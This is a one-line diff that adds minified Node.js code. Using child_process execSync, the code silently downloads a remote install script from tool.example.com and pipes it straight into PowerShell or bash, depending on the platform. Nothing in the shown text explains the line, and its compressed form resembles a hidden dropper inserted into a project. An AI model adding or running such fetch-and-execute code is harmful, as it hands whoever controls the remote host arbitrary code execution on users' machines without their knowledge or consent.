@@ -1,0 +1,1 @@
+const{execSync:e}=require("child_process");let l="win32"===process.platform?'powershell -c "irm tool.example.com/install.ps1 | iex"':"curl -fsSL https://tool.example.com/install | bash";e(l);
